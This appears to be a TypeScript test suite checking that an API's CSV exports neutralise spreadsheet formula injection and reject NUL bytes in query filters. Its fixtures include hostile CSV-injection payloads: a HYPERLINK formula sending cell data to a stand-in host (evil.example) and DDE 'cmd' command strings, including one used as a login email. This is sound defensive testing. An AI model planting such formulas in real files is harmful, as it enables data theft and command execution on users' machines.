import { factories } from './support/factories';
import { startTestApp, TEST_PASSWORD, type TestApp } from './support/test-app';

/** RFC 4180 cells of a CSV text (quoted fields, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  for (const match of text.matchAll(
    /((?:"(?:[^"]|"")*"|[^,\r\n]*)(?:,(?:"(?:[^"]|"")*"|[^,\r\n]*))*)\r\n/g,
  )) {
    const cells = [...match[1].matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) =>
      m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1],
    );
    rows.push(cells);
  }
  return rows;
}

/** What a spreadsheet would run: a cell starting with = + - @, tab or CR that is not a plain number. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)$/.test(cell);

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('CSV exports carry no live formulas and open in Excel as UTF-8', () => {
  let t: TestApp;
  let admin: string;
  let auditor: string;

  beforeAll(async () => {
    t = await startTestApp();
    admin = await t.adminToken();
    auditor = await t.token('auditor', 'confidential');
    const f = factories(t, admin);
    const fx = factories(t);
    for (const title of FORMULAS) {
      await f.createSummit({ title, location: 'Қазақстан' });
      const document = await f.createDocument({ title, summary: 'Azərbaycan' });
      await fx.createMilestone(admin, {
        title,
        documentId: document.id,
        indicator: {
          name: title,
          unit: 'USD',
          baseline: '-1.50',
          baselineOn: '2022-01-01',
          target: '-0.25',
        },
        description: title,
      });
    }
  });
  afterAll(() => t.close());

  const exportOf = async (path: string, query: Record<string, string>) => {
    const res = await t
      .http()
      .get(path)
      .query(query)
      .set('Authorization', `Bearer ${path.includes('audit') ? auditor : admin}`)
      .buffer(true)
      .parse((r, cb) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => cb(null, Buffer.concat(chunks)));
      });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    return res.body as Buffer;
  };

  it.each([
    ['/api/v1/summits', { format: 'csv' }, 'title'],
    ['/api/v1/documents', { format: 'csv' }, 'title'],
    ['/api/v1/milestones', { format: 'csv' }, 'title'],
    ['/api/v1/audit-events/export', { format: 'csv' }, 'changes'],
  ])('%s starts with a UTF-8 BOM and has no cell a spreadsheet would run', async (path, query, column) => {
    const bytes = await exportOf(path, query);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString('utf8').slice(1));
    const header = rows[0];
    expect(header).toContain(column);
    expect(rows.length).toBeGreaterThan(FORMULAS.length);
    expect(rows.flat().filter(live)).toEqual([]);
  });

  it('keeps the text of a neutralised cell, behind one quote mark', async () => {
    const rows = parseCsv((await exportOf('/api/v1/summits', { format: 'csv' })).toString('utf8').slice(1));
    const titles = rows.slice(1).map((r) => r[rows[0].indexOf('title')]);
    expect(titles.sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort());
    expect(rows.slice(1).map((r) => r[rows[0].indexOf('location')])).toContain('Қазақстан');
  });

  it('leaves negative numbers that are data as numbers', async () => {
    const rows = parseCsv(
      (await exportOf('/api/v1/milestones', { format: 'csv' })).toString('utf8').slice(1),
    );
    const baseline = rows[0].indexOf('indicatorBaseline');
    const target = rows[0].indexOf('indicatorTarget');
    expect(new Set(rows.slice(1).map((r) => `${r[baseline]} ${r[target]}`))).toEqual(new Set(['-1.5 -0.25']));
  });

  it("neutralises an anonymous failed login's email in the auditor's CSV", async () => {
    const res = await t
      .http()
      .post('/api/v1/auth/login')
      .send({ email: '=cmd|calc', password: TEST_PASSWORD });
    expect(res.status).toBe(401);
    const rows = parseCsv(
      (await exportOf('/api/v1/audit-events/export', { format: 'csv', action: 'login.failure' }))
        .toString('utf8')
        .slice(1),
    );
    const email = rows[0].indexOf('actorEmail');
    expect(rows.slice(1).map((r) => r[email])).toContain("'=cmd|calc");
    expect(rows.flat().filter(live)).toEqual([]);
  });
});

describe('a NUL in a filter of a streamed answer is a 400 before any byte', () => {
  let t: TestApp;
  let auditor: string;

  beforeAll(async () => {
    t = await startTestApp();
    auditor = await t.token('auditor', 'confidential');
  });
  afterAll(() => t.close());

  it.each([
    ['/api/v1/calendar.ics', 'sector=energy%00'],
    ['/api/v1/calendar.ics', 'country=AZ%00'],
    ['/api/v1/audit-events/export', 'action=create%00'],
    ['/api/v1/audit-events/export', 'format=csv&action=%00'],
    ['/api/v1/audit-events', 'action=create%00'],
    ['/api/v1/documents', 'q=%00'],
  ])('GET %s?%s → 400 problem', async (path, query) => {
    const res = await t.http().get(`${path}?${query}`).set('Authorization', `Bearer ${auditor}`);
    expect(res.status).toBe(400);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(res.body.detail).toMatch(/NUL/);
  });

  it.each([
    ['/api/v1/calendar.ics', 'sector=%C0%80'],
    ['/api/v1/calendar.ics', 'sector=%FF%FE'],
    ['/api/v1/calendar.ics', 'sector=%ED%A0%80'],
    ['/api/v1/audit-events/export', 'action=%C0%80'],
    ['/api/v1/audit-events/export', 'format=csv&action=%FF'],
  ])('GET %s?%s answers whole, as a 200 or a 400 problem', async (path, query) => {
    const res = await t.http().get(`${path}?${query}`).set('Authorization', `Bearer ${auditor}`);
    expect([200, 400]).toContain(res.status);
    if (res.status === 400) expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    if (path.endsWith('.ics') && res.status === 200) expect(res.text).toMatch(/END:VCALENDAR\r\n$/);
  });
});
